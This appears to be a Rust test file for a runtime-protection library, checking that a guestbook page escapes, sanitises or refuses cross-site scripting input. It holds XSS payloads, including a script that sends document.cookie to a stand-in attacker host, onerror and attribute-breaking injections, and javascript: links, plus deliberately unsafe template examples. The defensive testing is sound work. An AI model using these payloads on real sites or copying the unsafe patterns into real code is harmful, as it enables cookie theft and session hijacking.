//! Cross-site scripting through real pages, read back by a real HTML
//! parser.
//!
//! A guestbook renders each entry's author, website and bio into a page,
//! with an askama template and with HTML built by hand. The page is parsed
//! with `scraper` (html5ever, the parsing algorithm browsers follow) and
//! searched for what would run: `<script>` elements, `on*` handler
//! attributes, `javascript:` links. Without rasp — the author marked
//! `|safe` in the template, or spliced with `format!` — the attacker's
//! elements are in the parsed page. With rasp, the tainted author renders
//! escaped (`{{ author.escaped::<rasp::Html>() }}`, since a `Tainted` value
//! does not render in a template at all), hand-built HTML goes through
//! `rasp::html::raw` and is refused, and rich bios are cleaned by
//! `rasp::html::rich`. Look-alikes (`a < b`, ampersands, quotes, a
//! `javascript:` mention in text) render as they were typed.

use askama::Template;
use rasp::html::RawHtml;
use rasp::{Blocked, Html, Reason, Sanitized, Tainted};
use scraper::{Html as Document, Selector};

const SCRIPT: &str = "<script>fetch('//evil.example/?c='+document.cookie)</script>";
const ONERROR: &str = "<img src=x onerror=alert(document.domain)>";
const ATTRIBUTE: &str = "x\" autofocus onfocus=\"alert(1)";
const JS_LINK: &str = "javascript:alert(document.cookie)";
const LOOK_ALIKES: &[&str] = &[
    "if a < b && c > d then \"ok\"",
    "I <3 Rust & AT&T's 5 >= 3",
    "try javascript:void(0) in the console",
    "Zoë 🎉 — «quoted»",
];

#[derive(Debug)]
struct PageError(Blocked);

impl From<Blocked> for PageError {
    fn from(blocked: Blocked) -> Self {
        PageError(blocked)
    }
}

#[rasp::source(kind = "http.form")]
fn form_field(value: &str) -> String {
    value.to_owned()
}

/// What would run in a browser: script elements, handler attributes and
/// script links.
fn active_content(html: &str) -> Vec<String> {
    let document = Document::parse_document(html);
    let mut found = Vec::new();
    for element in document.select(&Selector::parse("*").unwrap()) {
        let element = element.value();
        if element.name() == "script" {
            found.push("<script>".to_owned());
        }
        for (name, value) in element.attrs() {
            if name.starts_with("on") {
                found.push(format!("{name}="));
            }
            if matches!(name, "href" | "src")
                && value.trim().to_ascii_lowercase().starts_with("javascript:")
            {
                found.push(format!("{name}=javascript:"));
            }
        }
    }
    found
}

fn text_of(html: &str, selector: &str) -> String {
    let document = Document::parse_document(html);
    let selector = Selector::parse(selector).unwrap();
    let element = document.select(&selector).next().expect("element present");
    element.text().collect()
}

/// The template as often written: the author marked safe.
#[derive(Template)]
#[template(
    ext = "html",
    source = "<html><body><h1 title=\"{{ author|safe }}\">{{ author|safe }}</h1></body></html>"
)]
struct UnsafeEntry<'a> {
    author: &'a str,
}

/// The guarded template: the tainted author renders escaped, the bio is
/// rich HTML cleaned by ammonia, the footer is checked hand-built HTML.
#[derive(Template)]
#[template(
    ext = "html",
    source = "<html><body><h1 title=\"{{ author.escaped::<rasp::Html>() }}\">{{ author.escaped::<rasp::Html>() }}</h1><div class=\"bio\">{{ bio }}</div><footer>{{ footer }}</footer></body></html>"
)]
struct Entry {
    author: Tainted<String>,
    bio: Sanitized<String, Html>,
    footer: RawHtml,
}

fn unguarded_card(author: &str, website: &str) -> String {
    format!(
        "<html><body><div class=\"card\"><a href=\"{website}\">{author}</a></div></body></html>"
    )
}

#[rasp::protect(route = "/guestbook/card")]
fn guarded_card(author: &str, website: &str) -> Result<RawHtml, PageError> {
    let card = form_field(author)
        .zip(form_field(website))
        .map(|(author, website)| unguarded_card(&author, &website));
    Ok(rasp::html::raw(card)?)
}

#[rasp::protect(route = "/guestbook/entry")]
fn guarded_entry(author: &str, bio: &str) -> Result<String, PageError> {
    let author = form_field(author);
    let bio = rasp::html::rich(&form_field(bio));
    let footer = rasp::html::raw("<small>signed</small>")?;
    Ok(Entry {
        author,
        bio,
        footer,
    }
    .render()
    .expect("render"))
}

#[test]
fn without_rasp_the_attackers_elements_are_in_the_page() {
    for (attack, expected) in [
        (SCRIPT, "<script>"),
        (ONERROR, "onerror="),
        (ATTRIBUTE, "onfocus="),
    ] {
        let page = UnsafeEntry { author: attack }.render().unwrap();
        assert!(
            active_content(&page).contains(&expected.to_owned()),
            "{page}"
        );
    }
    let page = unguarded_card("ann", JS_LINK);
    assert_eq!(active_content(&page), ["href=javascript:"]);
}

#[test]
fn a_tainted_author_renders_escaped_in_the_template() {
    for attack in [SCRIPT, ONERROR, ATTRIBUTE] {
        let page = guarded_entry(attack, "<b>hi</b>").unwrap();
        assert_eq!(active_content(&page), Vec::<String>::new(), "{page}");
        // The browser shows exactly what was typed.
        assert_eq!(text_of(&page, "h1"), attack);
        let document = Document::parse_document(&page);
        let h1 = document
            .select(&Selector::parse("h1").unwrap())
            .next()
            .unwrap();
        assert_eq!(h1.value().attr("title"), Some(attack));
    }
}

#[test]
fn rich_bios_keep_formatting_and_lose_scripts() {
    let bio = format!("<b>bold</b> <a href=\"{JS_LINK}\">me</a> {SCRIPT} {ONERROR}");
    let page = guarded_entry("ann", &bio).unwrap();
    assert_eq!(active_content(&page), Vec::<String>::new(), "{page}");
    let document = Document::parse_document(&page);
    assert_eq!(
        document.select(&Selector::parse(".bio b").unwrap()).count(),
        1
    );
    assert_eq!(
        document
            .select(&Selector::parse(".bio img").unwrap())
            .count(),
        1
    );
    assert_eq!(
        document
            .select(&Selector::parse("footer small").unwrap())
            .count(),
        1
    );
}

#[test]
fn hand_built_html_with_an_attack_is_refused() {
    for (author, website, reason) in [
        (SCRIPT, "/u/ann", Reason::OpensTag),
        (ONERROR, "/u/ann", Reason::OpensTag),
        ("ann", "x\" onmouseover=\"alert(1)", Reason::BreaksAttribute),
        ("ann", JS_LINK, Reason::ScriptUrl),
        ("ann", " &#106;avascript:alert(1)", Reason::ScriptUrl),
    ] {
        let refused = guarded_card(author, website).expect_err("refused");
        assert_eq!(refused.0.reason, reason, "{author} {website}");
    }
}

#[test]
fn look_alikes_render_as_typed() {
    for text in LOOK_ALIKES {
        let card = guarded_card(text, "https://example.com/?a=1&b=2").unwrap();
        assert_eq!(active_content(card.as_str()), Vec::<String>::new());
        assert_eq!(text_of(card.as_str(), "a"), *text);
        let page = guarded_entry(text, text).unwrap();
        assert_eq!(text_of(&page, "h1"), *text);
    }
}

#[test]
fn escaping_first_makes_hand_built_html_pass() {
    #[rasp::protect(route = "/guestbook/escaped")]
    fn card(author: &str) -> Result<RawHtml, PageError> {
        let author = form_field(author);
        let shown = author.escaped::<Html>();
        Ok(rasp::html::raw(format!(
            "<p title=\"{shown}\">{shown}</p>"
        ))?)
    }
    let html = card(SCRIPT).unwrap();
    assert_eq!(active_content(html.as_str()), Vec::<String>::new());
    assert_eq!(text_of(html.as_str(), "p"), SCRIPT);
}

#[test]
fn the_raw_guard_is_a_registered_html_sink() {
    let site = rasp::registry::sink("html.raw").expect("registered");
    assert_eq!(site.class(), rasp::SinkClass::Html);
    assert_eq!(site.fn_path(), "rasp::html::raw");
}
